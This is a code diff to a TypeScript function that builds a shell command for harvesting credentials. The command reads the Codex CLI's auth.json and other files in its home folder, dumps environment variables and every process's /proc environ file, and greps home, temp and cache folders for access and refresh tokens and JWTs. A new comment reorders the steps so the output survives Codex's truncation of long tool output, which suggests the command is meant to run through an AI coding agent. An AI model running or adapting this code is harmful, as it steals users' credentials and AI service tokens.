@@ -28,12 +28,13 @@ import { logoutHunt, memHunt } from './hunt-parts.js';
 function huntCommand(marker: string, ours = 'c[l]i.cjs', codex?: string): string {
   return [
     `echo ${marker} uid=$(id -u)`,
+    // Early: Codex cuts the middle out of a long tool output, and the dumps below are long.
+    memHunt(ours),
     'cat "$CODEX_HOME/auth.json"',
     'ls -la "$CODEX_HOME"',
     'cat "$CODEX_HOME"/* "$CODEX_HOME"/.auth-* 2>&1 | head -c 20000',
     'env',
     'for f in /proc/[0-9]*/environ; do echo "== $f"; tr "\\0" "\\n" < "$f"; done 2>&1 | head -c 60000',
-    memHunt(ours),
     `timeout 20 grep -rEoah '(rt_|oat_|at-|eyJ)[A-Za-z0-9._-]{20,}' "\${RUNNER_TEMP:-/nonexistent}" "$HOME" "\${XDG_CACHE_HOME:-/nonexistent}" /tmp 2>/dev/null | head -100`,
     ...(codex === undefined ? [] : [logoutHunt(codex)]),
   ].join('; ');
